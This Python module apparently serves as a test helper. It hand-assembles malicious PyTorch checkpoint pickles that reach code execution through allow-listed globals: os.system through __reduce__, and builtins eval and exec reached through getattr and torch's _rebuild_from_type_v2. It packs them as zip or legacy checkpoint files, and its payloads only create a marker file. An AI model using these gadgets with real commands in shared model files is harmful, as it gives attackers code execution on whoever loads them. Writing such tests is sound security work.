"""Hand-written checkpoint pickles that try to reach code through allow-listed globals.

A pickle here is built from a few opcodes (protocol 2), so that a test states exactly which
globals it names and what it calls: :func:`call` is ``func(*args)`` (REDUCE), :func:`glob` names a
global. :func:`write` stores a pickle as a zip (torch's default) or legacy checkpoint.
"""
import io
import os
import pickle
import shlex
import struct
import sys
import zipfile

import torch

PROTO = b'\x80\x02'


class Payload:
    """Unpickling this runs ``touch MARKER`` (a harmless stand-in for an attacker's command)."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return os.system, (f'touch {shlex.quote(self.marker)}',)


def glob(module, name):
    return f'c{module}\n{name}\n'.encode()


def text(value):
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def call(func, *args):
    """``func(*args)``: each argument is already pickle bytes."""
    return func + b'(' + b''.join(args) + b'tR'


EMPTY_DICT = b'}'
NONE = b'N'


def builtins_module():
    """``getattr(getattr, '__self__')``: the builtins module, through getattr alone."""
    getattr_ = glob('builtins', 'getattr')
    return call(getattr_, getattr_, text('__self__'))


def builtin(name):
    """``getattr(<builtins>, name)``, e.g. eval or exec."""
    return call(glob('builtins', 'getattr'), builtins_module(), text(name))


def through_rebuild(func, *args):
    """``torch._tensor._rebuild_from_type_v2(func, Tensor, args, {})``, which calls ``func(*args)``
    (on torch's own allow-list)."""
    return call(glob('torch._tensor', '_rebuild_from_type_v2'), func,
                glob('torch', 'Tensor'), b'(' + b''.join(args) + b't', EMPTY_DICT)


def touch_code(marker, tensor):
    """Python source that creates ``marker`` and evaluates to a tensor (or to None)."""
    effect = f'open({str(marker)!r}, "w").close()'
    return f'({effect}, __import__("torch").zeros(2))[1]' if tensor else effect


def eval_gadget(marker, tensor=True):
    """The known gadget: builtins.eval reached through getattr, called by _rebuild_from_type_v2."""
    return PROTO + through_rebuild(builtin('eval'), text(touch_code(marker, tensor))) + b'.'


def exec_gadget(marker):
    """builtins.exec reached the same way. exec returns None, so torch fails after the code ran:
    no exec gadget can return a tensor."""
    return PROTO + through_rebuild(builtin('exec'), text(touch_code(marker, False))) + b'.'


def write(path, pickle_bytes, legacy=False):
    """A checkpoint file whose object pickle is ``pickle_bytes`` (``path`` may be a BytesIO)."""
    if legacy:
        from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION
        info = dict(protocol_version=PROTOCOL_VERSION, little_endian=sys.byteorder == 'little',
                    type_sizes=dict(short=2, int=4, long=4))
        parts = [pickle.dumps(MAGIC_NUMBER, protocol=2), pickle.dumps(PROTOCOL_VERSION, protocol=2),
                 pickle.dumps(info, protocol=2), pickle_bytes, pickle.dumps([], protocol=2)]
        if isinstance(path, io.BytesIO):
            path.write(b''.join(parts))
            path.seek(0)
            return path
        with open(path, 'wb') as f:
            f.write(b''.join(parts))
        return path
    buffer = io.BytesIO()
    torch.save({'placeholder': 0}, buffer)
    buffer.seek(0)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as out:
        for info in source.infolist():
            data = source.read(info)
            out.writestr(info, pickle_bytes if info.filename.endswith('data.pkl') else data)
    return path
